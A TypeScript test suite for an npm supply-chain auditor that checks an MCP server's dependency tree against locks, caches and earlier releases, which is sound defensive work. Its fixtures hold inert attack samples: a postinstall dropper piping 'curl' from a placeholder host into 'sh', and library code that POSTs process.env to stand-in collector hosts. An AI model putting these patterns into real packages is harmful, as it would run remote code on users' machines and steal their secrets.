/** What stands below a server: resolved, compared, read where it changed, and judged. */
import { describe, expect, it } from 'vitest'
import { extractBehaviour } from '../../src/extract/extract.js'
import { type Artifact, type Behaviour, known, unknown } from '../../src/model.js'
import { auditBelow, ROOT, told } from './below.js'

const pkg = (name: string, version: string, more: object = {}): string =>
  JSON.stringify({ name, version, main: 'index.js', ...more })
const YESTERDAY = '2026-09-30T06:00:00.000Z'
const LONG_AGO = '2022-03-01T00:00:00.000Z'

/** A download-and-run dropper, harmless here: nothing of it is executed and its host has no address. */
const DROPPER = `const { execSync } = require('node:child_process')
execSync('curl -s https://files.dropzone.invalid/run.sh | sh')
`

const setupKit = {
  '4.2.1': {
    publishedAt: YESTERDAY,
    files: {
      'package.json': pkg('setup-kit', '4.2.1', { scripts: { postinstall: 'node setup.js' } }),
      'setup.js': DROPPER,
    },
  },
}
const httpLib = {
  '1.14.0': { publishedAt: LONG_AGO, files: { 'package.json': pkg('http-lib', '1.14.0') } },
  '1.14.1': {
    publishedAt: YESTERDAY,
    files: { 'package.json': pkg('http-lib', '1.14.1', { dependencies: { 'setup-kit': '^4.2.1' } }) },
  },
}
const attacked = [
  'http-lib@1.14.1',
  { is: 'setup-kit@4.2.1', path: ['mail-mcp@1.0.1', 'http-lib@1.14.1', 'setup-kit@4.2.1'] },
]

describe('a dependency of yesterday with a postinstall', () => {
  const packages = { 'http-lib': httpLib, 'setup-kit': setupKit }
  const serious = ['critical install-time-behaviour http-lib@1.14.1 > setup-kit@4.2.1']

  it('is found against a lock, with the way to it', async () => {
    const { findings, report, failures } = await auditBelow({ packages, today: attacked, locked: ['http-lib@1.14.0'] })
    expect(failures).toEqual([])
    expect(told(findings)).toEqual(expect.arrayContaining(serious))
    expect(told(findings)).toContain('medium dependency-young http-lib@1.14.1 > setup-kit@4.2.1')
    // What its code does is worse than that it has a script.
    expect(told(findings).filter((each) => each.includes('dependency-install-script'))).toEqual([])
    expect(report?.baseline).toBe('lock')
    expect(report?.changes.map(({ change, name, path }) => [change, name, path.length])).toEqual([
      ['moved', 'http-lib', 2],
      ['added', 'setup-kit', 3],
    ])
    const added = report?.changes[1]?.behaviour?.added.map(({ kind }) => kind)
    expect(added).toEqual(expect.arrayContaining(['install.script', 'process.spawn']))
  })

  it('is found against what npx installed here', async () => {
    const { findings, report } = await auditBelow({ packages, today: attacked, cached: ['http-lib@1.14.0'] })
    expect(report?.baseline).toBe('cache')
    expect(told(findings)).toEqual(expect.arrayContaining(serious))
  })

  it('is found where both releases of the server would take it today, and nothing tells what was there before', async () => {
    const { findings, report } = await auditBelow({ packages, today: attacked, unchanged: true })
    expect(report).toMatchObject({ baseline: 'previous', changes: [] })
    expect(told(findings)).toEqual(expect.arrayContaining(serious))
  })

  it('is found without any baseline', async () => {
    const { findings, report } = await auditBelow({ packages, today: attacked })
    expect(report?.baseline).toBe('none')
    expect(told(findings)).toEqual(expect.arrayContaining(serious))
  })

  it('is quiet where it was locked', async () => {
    const { findings, registry } = await auditBelow({ packages, today: attacked, locked: attacked })
    expect(told(findings)).toEqual(['info dependency-install-script'])
    expect(registry.fetched).toEqual([])
  })
})

describe('a package that moved', () => {
  const library = (version: string, code: string) => ({
    publishedAt: LONG_AGO,
    files: { 'package.json': pkg('lib', version), 'index.js': code },
  })
  const versions = {
    '1.0.0': library('1.0.0', 'exports.get = (url) => fetch(url)'),
    '1.0.1': library('1.0.1', "exports.get = (url) => fetch(url); fetch('https://status.lib-vendor.invalid/')"),
    '1.0.2': library(
      '1.0.2',
      "exports.get = (url) => fetch('https://take.collector.invalid/', { method: 'POST', body: JSON.stringify(process.env) })",
    ),
  }

  it('may reach a new host', async () => {
    const { findings, report } = await auditBelow({
      packages: { lib: versions },
      today: ['lib@1.0.1'],
      locked: ['lib@1.0.0'],
    })
    expect(told(findings).filter((each) => !each.startsWith('low '))).toEqual([])
    expect(report?.changes[0]?.behaviour?.added.length).toBeGreaterThan(0)
  })

  it('is found when it sends the environment away', async () => {
    const { findings } = await auditBelow({ packages: { lib: versions }, today: ['lib@1.0.2'], locked: ['lib@1.0.0'] })
    expect(told(findings)).toContain('critical environment-to-network lib@1.0.2')
    const finding = findings.find(({ heuristic }) => heuristic === 'environment-to-network')
    expect(finding).toMatchObject({
      subject: 'pkg:npm/lib@1.0.2',
      server: 'npm:mail-mcp',
      path: ['mail-mcp@1.0.1', 'lib@1.0.2'],
    })
    expect(finding?.evidence[0]).toMatchObject({ file: 'index.js', line: 1 })
  })

  it('is judged by itself where the version before can not be had', async () => {
    const packages = { lib: { ...versions, '1.0.0': { ...versions['1.0.0'], lost: true as const } } }
    const { findings, notEvaluated, failures } = await auditBelow({
      packages,
      today: ['lib@1.0.2'],
      locked: ['lib@1.0.0'],
    })
    expect(failures).toEqual([])
    expect(told(findings)).toContain('critical environment-to-network lib@1.0.2')
    expect(notEvaluated).toMatchObject([
      { what: 'code of its dependencies', why: expect.stringContaining('1.0.0, which it is to be compared with') },
    ])
  })
})

describe('a package that came', () => {
  it('may reach the network, start programs, read variables and evaluate code', async () => {
    const code = `const { spawn } = require('node:child_process')
      exports.run = (cmd) => spawn(cmd, { shell: true })
      exports.get = (url) => fetch(url, { headers: { 'user-agent': process.env.AGENT } })
      exports.compile = (text) => new Function('x', text)`
    const packages = {
      tool: { '1.0.0': { publishedAt: LONG_AGO, files: { 'package.json': pkg('tool', '1.0.0'), 'index.js': code } } },
    }
    const { findings, registry } = await auditBelow({ packages, today: ['tool@1.0.0'], locked: [] })
    expect(told(findings)).toEqual([])
    expect(registry.fetched).toEqual(['tool@1.0.0'])
  })

  it('is found where it steals', async () => {
    const code =
      "require('node:https').request({ host: 'drop.collector.invalid', method: 'POST' }).end(JSON.stringify(process.env))"
    const packages = { thief: { '1.0.0': { files: { 'package.json': pkg('thief', '1.0.0'), 'index.js': code } } } }
    const { findings } = await auditBelow({ packages, today: ['thief@1.0.0'], locked: [] })
    expect(told(findings)).toContain('critical environment-to-network thief@1.0.0')
  })
})

describe('the same version', () => {
  it('with other bytes than locked is critical', async () => {
    const packages = { lib: { '1.0.0': {} } }
    const { findings, report } = await auditBelow({
      packages,
      today: ['lib@1.0.0'],
      locked: [{ is: 'lib@1.0.0', integrity: `sha512-${'A'.repeat(86)}==` }],
    })
    expect(told(findings)).toEqual(['critical dependency-bytes-changed lib@1.0.0'])
    expect(report?.changes).toMatchObject([{ change: 'integrity', name: 'lib' }])
  })

  it('that the registry does not list any more is told', async () => {
    const packages = { lib: { '1.0.1': {} }, gone: { '0.0.1-security': {} } }
    const { findings } = await auditBelow({
      packages,
      today: ['lib@1.0.1'],
      locked: [
        { is: 'lib@1.0.0', integrity: `sha512-${'A'.repeat(86)}==` },
        { is: 'gone@1.0.0', integrity: `sha512-${'B'.repeat(86)}==` },
      ],
    })
    expect(told(findings)).toEqual([
      'high dependency-unpublished gone@1.0.0',
      'medium dependency-unpublished lib@1.0.0',
    ])
  })
})

describe('what can not be done', () => {
  it('is a failure where the tree can not be resolved', async () => {
    const { report, failures } = await auditBelow({ packages: {}, today: undefined as never })
    expect(report).toBeNull()
    expect(failures).toMatchObject([{ stage: 'resolve', message: expect.stringContaining('no published version') }])
  })

  it('is a remark where the tree of the release before can not be resolved', async () => {
    const { report, failures, notEvaluated } = await auditBelow({
      packages: { lib: { '1.0.0': {} } },
      today: ['lib@1.0.0'],
      previous: null,
    })
    expect([report?.baseline, failures]).toEqual(['none', []])
    expect(notEvaluated).toMatchObject([
      { what: 'what changed in its dependencies since 1.0.0', why: expect.stringContaining('no published version') },
    ])
  })

  it('is a failure where a package that came can not be fetched, unless npm goes on without it', async () => {
    const packages = { lib: { '1.0.0': { lost: true as const } } }
    const one = await auditBelow({ packages, today: ['lib@1.0.0'], locked: [] })
    expect(one.failures).toMatchObject([{ stage: 'fetch', subject: 'lib@1.0.0' }])
    const other = await auditBelow({ packages, today: [{ is: 'lib@1.0.0', optional: true }], locked: [] })
    expect(other.failures).toEqual([])
    // What npm could not fetch today it may fetch tomorrow: nobody has read it.
    expect(other.complete).toBe(false)
    expect(other.notEvaluated).toMatchObject([{ why: expect.stringContaining('lib@1.0.0 (the tarball is not') }])
  })

  const unanalysed =
    (file: string) =>
    async (artifact: Artifact): Promise<Behaviour> =>
      artifact.purl.endsWith('lib@1.0.1')
        ? { facts: [], unanalysed: [{ file, why: 'too deep' }] }
        : extractBehaviour(artifact)
  const packages = { lib: { '1.0.0': {}, '1.0.1': {} } }

  it('is not clean where code came that can not be analysed, and no failure', async () => {
    const extractor = { behaviour: unanalysed('index.js') }
    for (const earlier of [{ locked: ['lib@1.0.0'] }, { previous: ['lib@1.0.0'] }, { cached: ['lib@1.0.0'] }]) {
      const { failures, complete, notEvaluated } = await auditBelow({
        packages,
        today: ['lib@1.0.1'],
        extractor,
        ...earlier,
      })
      expect([failures, complete]).toEqual([[], false])
      expect(notEvaluated).toMatchObject([{ why: 'lib@1.0.1 (index.js: too deep)' }])
    }
  })

  it('is as clean as it was where the very same bytes could not be analysed before', async () => {
    const broken = 'this is no code ('
    const release = (version: string, code: string) => ({
      files: { 'package.json': pkg('lib', version), 'index.js': "require('./odd.js')", 'odd.js': code },
    })
    const today = (code: string) =>
      auditBelow({
        packages: { lib: { '1.0.0': release('1.0.0', broken), '1.0.1': release('1.0.1', code) } },
        today: ['lib@1.0.1'],
        locked: ['lib@1.0.0'],
      })
    expect(await today(broken)).toMatchObject({ complete: true, notEvaluated: [{ why: expect.any(String) }] })
    expect(await today(`${broken} (`)).toMatchObject({ complete: false, failures: [] })
  })

  it('is a remark where it is prose that can not be analysed', async () => {
    const extractor = { behaviour: unanalysed('LICENSE') }
    const { failures, notEvaluated, complete } = await auditBelow({
      packages,
      today: ['lib@1.0.1'],
      locked: ['lib@1.0.0'],
      extractor,
    })
    expect([failures, complete]).toEqual([[], true])
    expect(notEvaluated).toHaveLength(1)
  })

  it('is found beside a file of any size that says nothing', async () => {
    for (const [pad, complete] of [
      // Comments say nothing; what is too large to be read is named, and all else is read.
      [`//${'x'.repeat(9 * 1024 * 1024)}`, true],
      [`//${'x'.repeat(17 * 1024 * 1024)}`, false],
    ] as const) {
      const files = {
        'package.json': pkg('hub', '1.0.1', { scripts: { postinstall: 'node setup.js' } }),
        'index.js': "require('./pad.js')",
        'pad.js': pad,
        'setup.js': DROPPER,
      }
      const audited = await auditBelow({
        packages: { hub: { '1.0.0': {}, '1.0.1': { files } } },
        today: ['hub@1.0.1'],
        locked: ['hub@1.0.0'],
      })
      expect(told(audited.findings)).toContainEqual(expect.stringMatching(/^critical .* hub@1\.0\.1$/))
      expect([audited.failures, audited.complete]).toEqual([[], complete])
      expect(audited.notEvaluated.map(({ why }) => why)).toEqual(
        complete ? [] : ['hub@1.0.1 (pad.js: larger than 16 MiB)'],
      )
    }
  })

  it('is not clean where more changed than is read, and what nobody has seen is read first, whatever its name', async () => {
    const names = Array.from({ length: 520 }, (_, index) => `lib-${index}`)
    const moved = { '1.0.0': {}, '1.0.1': {} }
    const many = Object.fromEntries(names.map((name) => [name, moved]))
    const { registry, notEvaluated, complete, report, failures } = await auditBelow({
      packages: {
        ...many,
        'zz-young': { '1.0.0': {}, '1.0.1': { publishedAt: YESTERDAY } },
        'zz-new': { '1.0.0': {} },
        'zz-script': { '1.0.0': {}, '1.0.1': { manifest: { hasInstallScript: true } } },
        'zz-own': moved,
      },
      today: [
        ...names.map((name) => ({ is: `${name}@1.0.1`, path: [ROOT, 'zz-own@1.0.1', `${name}@1.0.1`] })),
        ...['zz-young@1.0.1', 'zz-new@1.0.0', 'zz-script@1.0.1', 'zz-own@1.0.1'],
      ],
      locked: [...names, 'zz-young', 'zz-script', 'zz-own'].map((name) => `${name}@1.0.0`),
    })
    expect(report?.changes).toHaveLength(524)
    expect(registry.fetched).toEqual(
      expect.arrayContaining(['zz-young@1.0.1', 'zz-new@1.0.0', 'zz-script@1.0.1', 'zz-own@1.0.1']),
    )
    expect([failures, complete]).toEqual([[], false])
    expect(notEvaluated).toMatchObject([{ why: expect.stringContaining('24 of 524 changed packages') }])
  })

  it('is named where it comes from no registry', async () => {
    const from = 'git+https://git.example/someone/hub.git#main'
    const { notEvaluated, report } = await auditBelow({
      packages: {},
      today: [{ is: `hub@${from}`, source: 'git' }],
      locked: [{ is: `hub@${from.replace('main', 'v1')}`, source: 'git' }],
    })
    expect(report?.changes).toMatchObject([{ change: 'moved', name: 'hub', to: { version: from } }])
    expect(notEvaluated).toMatchObject([
      { what: 'code of dependencies of no registry', why: expect.stringContaining(`hub@${from}`) },
    ])
  })
})

describe('a package that always wrote the configuration of agents', () => {
  const writes = (file: string) =>
    `exports.set${file.length} = () => require('node:fs').writeFileSync('${file}', '{}')\n`
  const version = (is: string, ...files: string[]) => ({
    files: { 'package.json': pkg('setup', is), 'index.js': files.map(writes).join('') },
  })
  const agents = (findings: Parameters<typeof told>[0]) =>
    told(findings).filter((each) => each.includes('agent-config'))

  it('is no worse for a new version that does the same, and told where it writes another', async () => {
    const moved = async (...files: string[]) => {
      const packages = {
        setup: { '1.0.0': version('1.0.0', '.claude/skills/a.md'), '1.0.1': version('1.0.1', ...files) },
      }
      return await auditBelow({ packages, today: ['setup@1.0.1'], previous: ['setup@1.0.0'] })
    }
    expect(agents((await moved('.claude/skills/a.md')).findings)).toEqual([])
    expect(agents((await moved('.claude/skills/a.md', '.cursor/mcp.json')).findings)).toHaveLength(1)
  })
})

describe('the age of a package', () => {
  const packages = { old: { '1.0.0': { publishedAt: LONG_AGO } }, lib: { '1.0.0': { publishedAt: null } } }

  it('is named where nobody can say it, unless the package is what was locked', async () => {
    const today = ['lib@1.0.0', 'old@1.0.0']
    const what = 'age of dependencies'
    const said = { what, why: 'the registry gives no time of publication (1 of 2 packages)' }
    expect((await auditBelow({ packages, today })).notEvaluated).toMatchObject([said])
    expect((await auditBelow({ packages, today, previous: today })).notEvaluated).toMatchObject([said])
    expect((await auditBelow({ packages, today, locked: ['old@1.0.0'] })).notEvaluated).toMatchObject([said])
    expect((await auditBelow({ packages, today, locked: today })).notEvaluated).toEqual([])
  })
})

describe('packages for other platforms', () => {
  const foreign = process.platform === 'win32' ? 'linux' : 'win32'
  const binary = (version: string, size: number) => ({
    files: { 'package.json': pkg('tool-bin', version, { os: [foreign] }) },
    manifest: { dist: { unpackedSize: size } },
  })
  const packages = (size: number) => ({
    'tool-bin': { '1.0.0': binary('1.0.0', size), '1.0.1': binary('1.0.1', size) },
  })

  it('are not read where nothing was accepted', async () => {
    const { registry, notEvaluated } = await auditBelow({
      packages: packages(1000),
      today: ['tool-bin@1.0.1'],
      previous: ['tool-bin@1.0.0'],
    })
    expect([registry.fetched, notEvaluated]).toEqual([[], []])
  })

  it('are read against a lock, which other machines share, unless they are large', async () => {
    const small = await auditBelow({ packages: packages(1000), today: ['tool-bin@1.0.1'], locked: ['tool-bin@1.0.0'] })
    expect(small.registry.fetched.toSorted()).toEqual(['tool-bin@1.0.0', 'tool-bin@1.0.1'])
    const large = await auditBelow({
      packages: packages(50_000_000),
      today: ['tool-bin@1.0.1'],
      locked: ['tool-bin@1.0.0'],
    })
    expect(large.registry.fetched).toEqual([])
    expect(large.notEvaluated).toMatchObject([{ why: 'tool-bin@1.0.1: made for other platforms, and is large' }])
  })
})

describe('the baseline', () => {
  it('is not resolved where both releases ask for the same packages', async () => {
    const { report, registry } = await auditBelow({
      packages: { zod: { '1.0.0': {} } },
      today: ['zod@1.0.0'],
      unchanged: true,
    })
    expect(report).toMatchObject({ baseline: 'previous', changes: [] })
    expect(registry.fetched).toEqual([])
  })

  it('is the tree of the release before, where nothing is locked or installed', async () => {
    const packages = { lib: { '1.0.0': {}, '2.0.0': {} } }
    const { report } = await auditBelow({ packages, today: ['lib@2.0.0'], previous: ['lib@1.0.0'] })
    expect(report).toMatchObject({ baseline: 'previous', changes: [{ change: 'moved', from: { version: '1.0.0' } }] })
  })

  it('is the lock before all else', async () => {
    const packages = { lib: { '1.0.0': {}, '2.0.0': {}, '3.0.0': {} } }
    const { report } = await auditBelow({
      packages,
      today: ['lib@3.0.0'],
      previous: ['lib@1.0.0'],
      cached: ['lib@2.0.0'],
      locked: ['lib@3.0.0'],
    })
    expect(report).toMatchObject({ baseline: 'lock', changes: [] })
  })
})

describe('advisories', () => {
  const packages = { lib: { '1.0.0': {} } }

  it('are asked for once, for every package from a registry', async () => {
    const asked: (readonly string[])[] = []
    const lookup = async (purls: readonly string[]) => {
      asked.push(purls)
      return new Map(purls.map((purl) => [purl, known([])]))
    }
    await auditBelow({ packages, today: ['lib@1.0.0', { is: 'fork@github:a/b#main' }], advisories: { lookup } })
    expect(asked).toEqual([['pkg:npm/lib@1.0.0']])
  })

  it('that can not be had are named once', async () => {
    const lookup = async (purls: readonly string[]) => new Map(purls.map((purl) => [purl, unknown('no answer')]))
    const { notEvaluated } = await auditBelow({ packages, today: ['lib@1.0.0'], advisories: { lookup } })
    expect(notEvaluated).toEqual([{ subject: 'pkg:npm/mail-mcp@1.0.1', what: 'advisories', why: 'no answer' }])
  })
})

it('stops with the reason when it is aborted', async () => {
  const abort = new AbortController()
  abort.abort(new Error('stop'))
  const running = auditBelow({
    packages: { lib: { '1.0.0': {} } },
    today: ['lib@1.0.0'],
    options: { signal: abort.signal },
  })
  await expect(running).rejects.toThrow('stop')
})
